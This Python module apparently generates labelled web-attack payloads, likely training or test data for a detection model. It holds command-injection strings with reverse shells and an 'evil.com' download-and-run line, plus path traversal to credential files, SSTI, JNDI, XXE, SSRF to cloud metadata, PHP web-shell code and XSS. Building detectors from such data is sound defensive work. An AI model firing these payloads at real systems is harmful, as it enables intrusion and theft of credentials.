"""Payloads of attacks: those of requests.grammar, and templates of the kinds that it lacks."""

import random

import interpreters
import rules
from normal import token, word
from rules import listed

from webtorch.detect import corpus

FILES = [
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/var/log/auth.log",
    "c:/windows/win.ini",
    "c:\\boot.ini",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "/etc/group",
    "/root/.ssh/id_rsa",
    "/home/user/.bash_history",
    "WEB-INF/web.xml",
    "/var/www/html/index.php",
    ".env",
    ".git/config",
    "wp-config.php",
    "../../config.yml",
    "/etc/nginx/nginx.conf",
    "/windows/system32/config/sam",
]
COMMANDS = (
    "id",
    "whoami",
    "uname -a",
    "cat /etc/passwd",
    "ls -la /",
    "ping -c 3 10.0.0.1",
    "curl http://x.oast.me/",
    "wget http://evil.com/s.sh -O- | sh",
    "nc -e /bin/sh 10.0.0.1 4444",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "sleep 5",
    "nslookup x.burpcollaborator.net",
    "powershell -enc SQBFAFgA",
    "dir c:\\",
    "type c:\\boot.ini",
    "ifconfig",
    "netstat -an",
    "ps aux",
    "printenv",
    "echo vulnerable",
    "/bin/cat /etc/shadow",
    "/usr/bin/id",
    "cat${IFS}/etc/passwd",
    "c'a't /e?c/p*d",
    "w`echo`hoami",
    "$(printf id)",
    "python -c 'import os;os.system(\"id\")'",
    "perl -e 'system(\"id\")'",
    "systeminfo",
    "net user",
)
OPERATORS = (  # of MongoDB, as names of fields
    *("$where", "$ne", "$gt", "$gte", "$lt", "$regex", "$nin", "$nor", "$not", "$or", "$and"),
    *("$exists", "$expr", "$function", "$accumulator", "$elemMatch", "$text", "$jsonSchema"),
    *("user[$ne]", "password[$gt]", "login[$regex]", "q[$nin][]", "id[$exists]"),
)
HOSTS = (
    *("127.0.0.1", "localhost", "169.254.169.254", "[::1]", "0x7f000001", "2130706433"),
    *("metadata.google.internal", "10.0.0.5", "192.168.1.1", "0", "127.1", "attacker.com"),
)


def command(rng: random.Random) -> str:
    return rng.choice(COMMANDS)


def cmdi(rng: random.Random) -> str:
    c, w = command(rng), rng.choice(["", word(rng), str(rng.randint(1, 99)), "127.0.0.1"])
    return rng.choice(
        [
            f"{w};{c}",
            f"{w}; {c}",
            f"{w}|{c}",
            f"{w} | {c}",
            f"{w}||{c}",
            f"{w}&&{c}",
            f"{w} & {c} &",
            f"{w}$({c})",
            f"{w}`{c}`",
            f"{w}\n{c}\n",
            f'";{c};"',
            f"';{c};'",
            f"{w}|{c}#",
            f";{c};",
            f"() {{ :;}}; {c}",
            f'<!--#exec cmd="{c}"-->',
            f"{c}",
            f"{w}%0a{c}",
            f"{{{c.replace(' ', ',')}}}",
            f"$(({rng.randint(1, 99)}+1));{c}",
            f"{w}'||{c}||'",
            f"/bin/sh -c '{c}'",
            f"cmd.exe /c {c}",
            f"require('child_process').exec('{c}')",
            f'Runtime.getRuntime().exec("{c}")',
            f"__import__('os').system('{c}')",
            f"system('{c}')",
            f"eval(compile('{c}','','exec'))",
        ]
    )


def lfi(rng: random.Random) -> str:
    file = rng.choice(FILES)
    up = rng.choice(
        [
            "../",
            "..\\",
            "....//",
            "..%2f",
            "%2e%2e/",
            "..%5c",
            "..;/",
            "%c0%ae%c0%ae/",
            "..%252f",
            ".../",
            "..//",
            "%2e%2e%2f",
            "..%c0%af",
            "\\..",
            "/..",
        ]
    )
    path = up * rng.randint(2, 10) + file.lstrip("/")
    return rng.choice(
        [
            path,
            path,
            path,
            file,
            "/" + path,
            path + "%00",
            path + "\0.png",
            f"file://{file}",
            f"php://filter/convert.base64-encode/resource={file}",
            f"/var/www/images/{path}",
            f"....\\\\{path}",
            f"\\\\{rng.choice(HOSTS)}\\c$\\{file}",
            f"./{path}",
            f"expect://{command(rng)}",
            f"zip://{word(rng)}.jpg#{word(rng)}.php",
            f"/%5c../{path}",
        ]
    )


def ssti(rng: random.Random) -> str:
    a, b, c = rng.randint(2, 99), rng.randint(2, 99), command(rng)
    inner = rng.choice(
        [
            f"{a}*{b}",
            f"{a}*'{b}'",
            "config",
            "self",
            "request",
            "config.items()",
            "''.__class__.__mro__[2].__subclasses__()",
            f"request.application.__globals__.__builtins__.__import__('os').popen('{c}').read()",
            f"cycler.__init__.__globals__.os.popen('{c}').read()",
            f"lipsum.__globals__['os'].popen('{c}').read()",
            "self.__init__.__globals__",
            f"T(java.lang.Runtime).getRuntime().exec('{c}')",
            "_self.env.registerUndefinedFilterCallback('exec')",
            f"['{c}']|filter('system')",
            "app.request.server.all|join(',')",
            "File.open('/etc/passwd').read",
            f"system('{c}')",
            f"`{c}`",
            "dump(app)",
            "constructor.constructor('alert(1)')()",
            "$on.constructor('alert(1)')()",
            f"#rt=@java.lang.Runtime@getRuntime(),#rt.exec('{c}')",
            "[].class.base.subclasses()",
            "settings.SECRET_KEY",
            "range.constructor(\"return global.process.mainModule.require('fs')\")()",
        ]
    )
    begin, end = rng.choice(
        [
            ("{{", "}}"),
            ("${", "}"),
            ("#{", "}"),
            ("<%= ", " %>"),
            ("{%", "%}"),
            ("${{", "}}"),
            ("@(", ")"),
            ("*{", "}"),
            ("{{{", "}}}"),
            ("[[", "]]"),
            ("{php}", "{/php}"),
            ("%{", "}"),
            ("{{=", "}}"),
            ("#set($x=", ")"),
            ("<#assign x=", ">"),
            ("{", "}"),
            ("~{", "}"),
        ]
    )
    return rng.choice(["", "", word(rng)]) + begin + inner + end


def jndi(rng: random.Random) -> str:
    host = rng.choice([*HOSTS, "x.oast.live", f"{word(rng)}.com:1389"])
    scheme = rng.choice(["ldap", "rmi", "dns", "ldaps", "iiop", "corba", "nis", "http"])
    plain = f"${{jndi:{scheme}://{host}/{word(rng)}}}"
    return rng.choice(
        [
            plain,
            plain,
            "${${lower:j}ndi:" + scheme + f"://{host}/a}}",
            "${${::-j}${::-n}${::-d}${::-i}:" + f"{scheme}://{host}}}",
            "${${env:X:-j}ndi${env:X:-:}" + f"{scheme}://{host}/${{env:USER}}}}",
            "${j${upper:n}${lower:d}i:" + f"{scheme}:{host}}}",
            f"${{${{lower:jndi}}:{scheme}://{host}/${{hostName}}}}",
            f"${{script:javascript:java.lang.Runtime.getRuntime().exec('{command(rng)}')}}",
            f"${{dns:address|{host}}}",
            f"${{url:UTF-8:http://{host}/}}",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${sys:java.version}",
        ]
    )


def nosql(rng: random.Random) -> str:
    a = word(rng)
    return rng.choice(
        [
            '{"$ne": null}',
            '{"$gt": ""}',
            f'{{"$where": "sleep({rng.randint(1, 9)}000)"}}',
            '{"$regex": ".*"}',
            f'{{"username": {{"$ne": "{a}"}}, "password": {{"$ne": "{a}"}}}}',
            "' || '1'=='1",
            "' || 1==1//",
            "';return true;var x='",
            f"{a}', $where: '1 == 1",
            f"'; sleep({rng.randint(1, 9)}000); var z='0",
            "true, $where: '1 == 1'",
            ", $where: '1 == 1'",
            "$where: '1 == 1'",
            "1, $where: '1 == 1'",
            "{ $ne: 1 }",
            "db.injection.insert({success:1});",
            f"|| this.{a}.match(/.*/)//",
            f"' && this.password.match(/^{a}/)//+%00",
            f"db.{a}.find({{}})",
            "[$ne]=1",
            '{"$or": [{}, {"a": "a"}]}',
            f"'; while(1); var x='{a}",
            "this.constructor.constructor('return process')()",
        ]
    )


def ldap(rng: random.Random) -> str:
    a = word(rng)
    return rng.choice(
        [
            "*)(uid=*))(|(uid=*",
            f"{a})(&)",
            f"*)({a}=*",
            f"{a}*)(|(&",
            "*)(objectClass=*)",
            "admin)(!(&(1=0",
            f"{a}))(|(cn=*",
            "*()|&'",
            f"{a})(|(password=*))",
            "*))%00",
            "(&(objectClass=user)(uid=*))",
            "x)(cn=*))\0",
            "*)(&",
        ]
    )


def xxe(rng: random.Random) -> str:
    file, e, host = rng.choice(FILES), word(rng, 1, 6), rng.choice(HOSTS)
    source = rng.choice(
        [
            f"file://{file}",
            f"http://{host}/{word(rng)}.dtd",
            f"php://filter/read=convert.base64-encode/resource={file}",
            f"expect://{word(rng)}",
            f"netdoc:{file}",
        ]
    )
    return rng.choice(
        [
            f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY {e} SYSTEM "{source}">]><r>&{e};</r>',
            f'<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY {e} SYSTEM "{source}">]><foo>&{e};</foo>',
            f'<!DOCTYPE r [<!ENTITY % {e} SYSTEM "{source}">%{e};]><r/>',
            f'<!DOCTYPE r SYSTEM "{source}"><r/>',
            f'<!DOCTYPE r PUBLIC "x" "{source}"><r/>',
            '<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;"><!ENTITY c "&b;&b;">]><l>&c;</l>',
            '<x xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<xi:include parse="text" href="{source}"/></x>',
            f'<?xml-stylesheet type="text/xsl" href="{source}"?><r/>',
        ]
    )


def ssrf(rng: random.Random) -> str:
    host = rng.choice(HOSTS)
    return rng.choice(
        [
            f"http://{host}/{rng.choice(['latest/meta-data/', 'admin', 'computeMetadata/v1/'])}",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            f"gopher://{host}:6379/_FLUSHALL",
            f"dict://{host}:11211/stat",
            f"file://{rng.choice(FILES)}",
            f"http://{host}:22/",
            f"ftp://{host}/x",
            f"http://{word(rng)}.com@{host}/",
            f"http://{host}/{word(rng)}.php?cmd={command(rng)}",
            f"http://{host}/shell.txt?",
            f"//{host}/%2e%2e",
            f"http://{word(rng)}.com/c99.txt?",
            f"ldap://{host}:389/",
            f"jar:http://{host}!/",
        ]
    )


def php(rng: random.Random) -> str:
    c, v = command(rng), word(rng, 1, 5)
    return rng.choice(
        [
            f"<?php system('{c}'); ?>",
            "<?php phpinfo();?>",
            f"<?= `{c}` ?>",
            f"<?php @eval($_POST['{v}']);?>",
            f"${{@print(md5({rng.randint(1, 99)}))}}",
            f"';system('{c}');//",
            f"${{@system({c})}}",
            f"assert('{c}')",
            f"base64_decode('{token(rng)}')",
            f"call_user_func('system','{c}')",
            'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
            f'a:2:{{i:0;s:4:"test";i:1;O:{rng.randint(1, 20)}:"{v}":0:{{}}}}',
            "GLOBALS[x]=1",
            "_SERVER[DOCUMENT_ROOT]=http://x/",
            "allow_url_include=1&auto_prepend_file=php://input",
            "-d allow_url_include=on -d auto_prepend_file=php://input",
            f"phar://{v}.phar/x",
            f"data://text/plain;base64,{token(rng)}",
            f"preg_replace('/.*/e','{c}','')",
            f"('sys'.'tem')('{c}');",
            f'$_="_GET";${v}[0](${v}[1]);',
            f"create_function('','{c}')",
            f"file_put_contents('{v}.php','<?php x')",
            f"array_map('assert',array('{c}'))",
            "proc_open('id',[],$x)",
            "__halt_compiler();",
            f"fopen('{rng.choice(FILES)}','r')",
            "session_start()",
        ]
    )


def script(rng: random.Random) -> str:
    """Return JavaScript for a place in which it runs by itself."""
    call = rng.choice(["alert", "prompt", "confirm", "eval", "print", "setTimeout", "fetch"])
    what = rng.choice(
        [
            *("1", "document.domain", "document.cookie", "origin", "location.hash.slice(1)", "/x/"),
            *("URL.slice(-8)", "name", "atob('YWxlcnQoMSk=')", f"'{word(rng)}'", f"`{word(rng)}`"),
            *(f"//{word(rng)}.com", "String.fromCharCode(88,83,83)", "localStorage.token", "XSS"),
        ]
    )
    half = call[:2]
    made = rng.choice(
        [
            *(f"{call}({what})", f"{call}({what})", f"{call}`{what}`", f"({call})({what})"),
            *(
                f"window['{call}']({what})",
                f"top['{half}'+'{call[2:]}']({what})",
                f"self.{call}({what})",
            ),
            *(f"[{what}].map({call})", f"{call}.call(null,{what})", f"{call}.apply(null,[{what}])"),
            *(f"Function('{call}({what})')()", f"[]['filter']['constructor']('{call}({what})')()"),
            *(
                f"location='javascript:{call}({what})'",
                f"new Image().src='//{word(rng)}.com?'+{what}",
            ),
            *(f"document.write({what})", f"onerror={call};throw {what}", f"a={call},a({what})"),
        ]
    )
    return (
        rng.choice(["", "", "", "javascript:", "';", '"-', "'-", "`;", "}", "//"])
        + made
        + rng.choice(["", "", "", ";//", "-'", '-"', "<!--", ">", ";"])
    )


def crlf(rng: random.Random) -> str:
    return rng.choice(
        [
            f"{word(rng)}\r\nSet-Cookie: a=b",
            f"\r\nLocation: http://{word(rng)}.com",
            f"{word(rng)}\r\n\r\n<script>alert(1)</script>",
            f"x\r\nGET /{word(rng)} HTTP/1.1\r\nHost: {word(rng)}",
            "\nContent-Length: 0\n\nHTTP/1.1 200 OK",
        ]
    )


def scanner(rng: random.Random) -> str:
    """Return a User-Agent of a scanner."""
    return rng.choice(
        [
            f"sqlmap/1.{rng.randint(0, 9)}#stable (https://sqlmap.org)",
            "Nikto/2.5.0",
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "gobuster/3.6",
            "Fuzz Faster U Fool v2.0.0",
            "DirBuster-1.0-RC1",
            "WPScan v3.8",
            "w3af.org",
            "Arachni/v1.5",
            "Acunetix-Product",
            "zgrab/0.x",
            "Wfuzz/3.1.0",
            "feroxbuster/2.10",
            "Jorgee",
            "OpenVAS",
            "Havij",
            "commix/v3.5",
            *listed("scanners-user-agents.data"),
        ]
    )


PATHS = [
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/wp-config.php.bak",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htpasswd",
    "/phpmyadmin/index.php",
    "/phpinfo.php",
    "/server-status",
    "/actuator/env",
    "/actuator/heapdump",
    "/.svn/entries",
    "/.DS_Store",
    "/backup.sql",
    "/dump.sql",
    "/db.sql.gz",
    "/config.php~",
    "/web.config",
    "/cgi-bin/test.cgi",
    "/shell.php",
    "/c99.php",
    "/adminer.php",
    "/.vscode/settings.json",
    "/.npmrc",
    "/docker-compose.yml",
    "/.docker/config.json",
    "/wp-content/debug.log",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/solr/admin/info",
    "/manager/html",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/console/login/LoginForm.jsp",
    "/.well-known/../.env",
    "/id_rsa",
    "/.bash_history",
    "/.profile",
    "/storage/logs/laravel.log",
    "/_profiler/phpinfo",
    "/telescope/requests",
    "/.idea/workspace.xml",
    "/composer.lock",
    "/yarn.lock",
    "/.gitignore",
    "/.kube/config",
    "/terraform.tfstate",
    "/etc/passwd",
    "/wp-json/wp/v2/users",
    "/old/backup.zip",
    "/.env.production",
    "/api/.env",
    "/laravel/.env",
]

GRAMMAR = corpus.Grammar()


def of_lists(rng: random.Random) -> tuple[str, str]:
    """Return a payload about a file, a command, a function or a class, and its kind."""
    what = rng.randrange(8)
    a = word(rng, 1, 6)
    if what < 2:
        file = rng.choice(listed("lfi-os-files.data" if what else "restricted-files.data")).lstrip(
            "/"
        )
        up = rng.choice(["/", "/", "../", "../../../", "..\\..\\", "file:///", "/var/www/", "%00/"])
        return up + file, "lfi"
    if what == 2:
        name = rng.choice(listed("php-function-names-933150.data"))
        return rng.choice(
            [f"{name}({a})", f"{name}('{a}');", f"@{name} ($_GET[{a}])", f'${a}={name}("{a}")']
        ), "php"
    if what == 3:
        name = rng.choice(listed("php-config-directives.data"))
        return rng.choice([f"{name}=1", f"-d {name}=on", f"ini_set('{name}', 1)"]), "php"
    if what == 4:
        name = rng.choice(listed("java-classes.data"))
        return rng.choice(
            [
                f"{name}",
                f"T({name}).getRuntime()",
                f"%{{(#a=@{name}@x)}}",
                f'new {name}("{a}").start()',
                f"class.module.classLoader.{a}={name}",
            ]
        ), "jndi"
    if what == 5:
        name = rng.choice(listed("windows-powershell-commands.data"))
        return rng.choice(
            [f"{name} -x {a}", f"powershell -c {name}", f"&{name}", f"; {name} | out-null"]
        ), "cmdi"
    name = rng.choice([each for each in listed("unix-shell.data") if "/" in each])
    return rng.choice(
        [
            f";{name} {a}",
            f"/{name} -{a[0]}",
            f"$(/{name})",
            f"|{name.split('/')[-1]} {a}",
            f"{a} && {name.split('/')[-1]} -{a[0]} /tmp",
            f"`{name.split('/')[-1]}`",
            f"/???/??t /{name}",
        ]
    ), "cmdi"


def of_grammar(rng: random.Random) -> str:
    return GRAMMAR.make("attack", rng)


KINDS = (
    ("", of_grammar, 40),
    ("cmdi", cmdi, 8),
    ("lfi", lfi, 8),
    ("ssti", ssti, 8),
    ("jndi", jndi, 5),
    ("nosql", nosql, 4),
    ("ldap", ldap, 2),
    ("xxe", xxe, 3),
    ("ssrf", ssrf, 2),
    ("php", php, 6),
    ("xss", script, 8),
    ("crlf", crlf, 2),
    ("list", command, 14),
)


def encoded(payload: str, rng: random.Random) -> str:
    """Return a payload with characters as HTML, JSON, JavaScript or URLs write them."""
    signs = {each for each in payload if not each.isalnum()}
    chosen = signs if rng.random() < 0.6 else {rng.choice(payload), *rng.sample(sorted(signs), 1)}
    if rng.random() < 0.2:
        chosen = set(payload)
    write = rng.choice(
        [
            *("&#{0};", "&#{0}", "&#x{0:x};", "&#x{0:X}", "&#{0:07};", "\\u{0:04x}", "\\x{0:02x}"),
            *("%{0:02x}", "%25{0:02X}", "%u{0:04x}", "\\{0:o}", "\\u{{{0:x}}}"),
        ]
    )
    return "".join(write.format(ord(each)) if each in chosen else each for each in payload)


def payload(rng: random.Random) -> tuple[str, str]:
    """Return a payload and its kind, "" if it is not known; some are encoded once more."""
    made, kind = plain(rng)
    if len(made) < 200 and rng.random() < 0.06 and not made.isalnum():
        made = encoded(made, rng)
    return made, kind


def plain(rng: random.Random) -> tuple[str, str]:
    """Return a payload and its kind, as it is."""
    if rng.random() < 0.3:
        return rules.payload(rng)
    if rng.random() < 0.5:
        return interpreters.payload(rng)
    kind, make, _ = rng.choices(KINDS, [weight for _, _, weight in KINDS])[0]
    return of_lists(rng) if kind == "list" else (make(rng), kind)
